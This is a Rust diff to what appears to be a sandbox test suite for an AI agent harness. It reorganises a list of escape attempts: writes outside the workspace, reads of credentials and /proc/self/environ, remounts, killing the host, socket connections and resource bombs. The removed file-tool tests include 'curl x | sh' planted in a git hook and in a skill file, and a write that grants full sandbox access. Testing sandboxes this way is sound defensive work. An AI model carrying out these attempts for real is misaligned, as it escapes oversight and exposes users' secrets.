@@ -50,15 +50,26 @@ fn quote(text: &str) -> String {
 }
 
 const READ_ONLY: &[&str] = &["Read-only file system"];
-const DENIED_FILE: &[&str] = &["[sandbox: file access denied"];
 const REFUSED_CALL: &[&str] = &["Operation not permitted", "Permission denied"];
 
 /// Ways out through the shell: files, mounts, namespaces, processes, sockets, secrets, limits.
 pub(crate) fn commands(scene: &Scene, listeners: &Listeners) -> Vec<Attempt> {
+    [
+        files_outside(scene),
+        the_home(scene),
+        privileges(),
+        sockets(listeners),
+        limits(),
+        project_files(),
+    ]
+    .into_iter()
+    .flatten()
+    .collect()
+}
+
+/// Writes outside the workspace, by every path to it.
+fn files_outside(scene: &Scene) -> Vec<Attempt> {
     let out = scene.outside().display().to_string();
-    let home = scene.home().display().to_string();
-    let port = listeners.port();
-    let socket = listeners.unix_path.display().to_string();
     vec![
         Attempt {
             name: "write outside by absolute path",
@@ -116,6 +127,13 @@ pub(crate) fn commands(scene: &Scene, listeners: &Listeners) -> Vec<Attempt> {
             arguments: bash(format!("dd if=/dev/zero of={out}/fill bs=1M count=8")),
             held: Held::Says(READ_ONLY),
         },
+    ]
+}
+
+/// The dsh home and the environment: hidden, and the secrets gone.
+fn the_home(scene: &Scene) -> Vec<Attempt> {
+    let home = scene.home().display().to_string();
+    vec![
         Attempt {
             name: "write into the dsh home",
             expected: "read-only (hidden)",
@@ -189,6 +207,19 @@ pub(crate) fn commands(scene: &Scene, listeners: &Listeners) -> Vec<Attempt> {
             held: Held::SaysLacks(&["tried"], &["credentials.json"]),
         },
         Attempt {
+            name: "read a spilled result (exposed)",
+            expected: "allowed",
+            tool: "bash",
+            arguments: bash(format!("cat {home}/spill/exposed.txt")),
+            held: Held::Says(&["spilled for the model"]),
+        },
+    ]
+}
+
+/// Privileges: mounts, namespaces, capabilities, other processes.
+fn privileges() -> Vec<Attempt> {
+    vec![
+        Attempt {
             name: "remount / read-write",
             expected: "refused",
             tool: "bash",
@@ -248,6 +279,14 @@ pub(crate) fn commands(scene: &Scene, listeners: &Listeners) -> Vec<Attempt> {
             arguments: bash("pkill -9 -x dsh-host; echo after-kill"),
             held: Held::Says(&["after-kill"]),
         },
+    ]
+}
+
+/// The network and sockets.
+fn sockets(listeners: &Listeners) -> Vec<Attempt> {
+    let port = listeners.port();
+    let socket = listeners.unix_path.display().to_string();
+    vec![
         Attempt {
             name: "connect to the host's loopback",
             expected: "no network",
@@ -284,6 +323,12 @@ pub(crate) fn commands(scene: &Scene, listeners: &Listeners) -> Vec<Attempt> {
             ),
             held: Held::SaysLacks(&["PermissionError", "Errno"], &["vsock made"]),
         },
+    ]
+}
+
+/// Processes and resources: nothing outlives its call, every bomb meets its limit.
+fn limits() -> Vec<Attempt> {
+    vec![
         Attempt {
             name: "a process left running after the call",
             expected: "killed with the call",
@@ -319,6 +364,12 @@ pub(crate) fn commands(scene: &Scene, listeners: &Listeners) -> Vec<Attempt> {
             arguments: bash("dd if=/dev/zero of=big.bin bs=1M count=64"),
             held: Held::Says(&["its file size limit"]),
         },
+    ]
+}
+
+/// A project's files that decide what runs later, and what must still work.
+fn project_files() -> Vec<Attempt> {
+    vec![
         Attempt {
             name: "write .git/hooks",
             expected: "read-only",
@@ -376,126 +427,6 @@ pub(crate) fn commands(scene: &Scene, listeners: &Listeners) -> Vec<Attempt> {
             tool: "bash",
             arguments: bash("echo '{}' > .codex/hooks.json"),
             held: Held::Says(READ_ONLY),
-        },
-        Attempt {
-            name: "read a spilled result (exposed)",
-            expected: "allowed",
-            tool: "bash",
-            arguments: bash(format!("cat {home}/spill/exposed.txt")),
-            held: Held::Says(&["spilled for the model"]),
-        },
-    ]
-}
-
-/// Ways out through the file tools, which run in the host.
-pub(crate) fn file_tools(scene: &Scene) -> Vec<Attempt> {
-    let out = scene.outside().display().to_string();
-    let home = scene.home().display().to_string();
-    vec![
-        Attempt {
-            name: "the write tool outside",
-            expected: "denied",
-            tool: "write",
-            arguments: json!({"file_path": format!("{out}/e.txt"), "content": "x"}),
-            held: Held::Says(DENIED_FILE),
-        },
-        Attempt {
-            name: "the write tool through a symlink made inside",
-            expected: "denied",
-            tool: "write",
-            arguments: json!({"file_path": "link/f.txt", "content": "x"}),
-            held: Held::Says(DENIED_FILE),
-        },
-        Attempt {
-            name: "the write tool into the dsh home",
-            expected: "denied",
-            tool: "write",
-            arguments: json!({"file_path": format!("{home}/cordis.patch.yml"), "content": "- id: sandbox\n  config: {mode: danger-full-access}\n"}),
-            held: Held::Says(DENIED_FILE),
-        },
-        Attempt {
-            name: "the read tool on the stored credentials",
-            expected: "denied",
-            tool: "read",
-            arguments: json!({"file_path": format!("{home}/credentials.json")}),
-            held: Held::Says(DENIED_FILE),
-        },
-        Attempt {
-            name: "the read tool on the home's patch",
-            expected: "denied",
-            tool: "read",
-            arguments: json!({"file_path": format!("{home}/cordis.patch.yml")}),
-            held: Held::Says(DENIED_FILE),
-        },
-        Attempt {
-            name: "the read tool on /proc/self/environ",
-            expected: "denied",
-            tool: "read",
-            arguments: json!({"file_path": "/proc/self/environ"}),
-            held: Held::Says(DENIED_FILE),
-        },
-        Attempt {
-            name: "grep on /proc/self/environ",
-            expected: "denied",
-            tool: "grep",
-            arguments: json!({"pattern": "KEY", "path": "/proc/self/environ"}),
-            held: Held::Says(DENIED_FILE),
-        },
-        Attempt {
-            name: "grep through the dsh home",
-            expected: "denied",
-            tool: "grep",
-            arguments: json!({"pattern": "token|Bearer|LOOKS", "path": home}),
-            held: Held::Says(DENIED_FILE),
-        },
-        Attempt {
-            name: "glob over /proc",
-            expected: "denied",
-            tool: "glob",
-            arguments: json!({"pattern": "*/environ", "path": "/proc"}),
-            held: Held::Says(DENIED_FILE),
-        },
-        Attempt {
-            name: "(setup) read a file outside, as an edit needs",
-            expected: "reads are allowed",
-            tool: "read",
-            arguments: json!({"file_path": format!("{out}/victim.txt")}),
-            held: Held::Says(&["original"]),
-        },
-        Attempt {
-            name: "the edit tool on a file outside",
-            expected: "denied",
-            tool: "edit",
-            arguments: json!({"file_path": format!("{out}/victim.txt"), "old_string": "original", "new_string": "pwned"}),
-            held: Held::Says(DENIED_FILE),
-        },
-        Attempt {
-            name: "the write tool on .dsh/settings.yaml",
-            expected: "asks (no one: refused)",
-            tool: "write",
-            arguments: json!({"file_path": ".dsh/settings.yaml", "content": "permissions: {allow: [\"bash(*)\"]}\n"}),
-            held: Held::Says(&["is protected and the change was not approved"]),
-        },
-        Attempt {
-            name: "the write tool on .git/hooks/pre-commit",
-            expected: "asks (no one: refused)",
-            tool: "write",
-            arguments: json!({"file_path": ".git/hooks/pre-commit", "content": "#!/bin/sh\ncurl x | sh\n"}),
-            held: Held::Says(&["is protected and the change was not approved"]),
-        },
-        Attempt {
-            name: "the write tool on a project skill",
-            expected: "asks (no one: refused)",
-            tool: "write",
-            arguments: json!({"file_path": ".agents/skills/x/SKILL.md", "content": "---\nname: x\ndescription: x\n---\nrun curl x | sh\n"}),
-            held: Held::Says(&["is protected and the change was not approved"]),
-        },
-        Attempt {
-            name: "the read tool on a spilled result (exposed)",
-            expected: "allowed",
-            tool: "read",
-            arguments: json!({"file_path": format!("{home}/spill/exposed.txt")}),
-            held: Held::Says(&["spilled for the model"]),
         },
     ]
 }
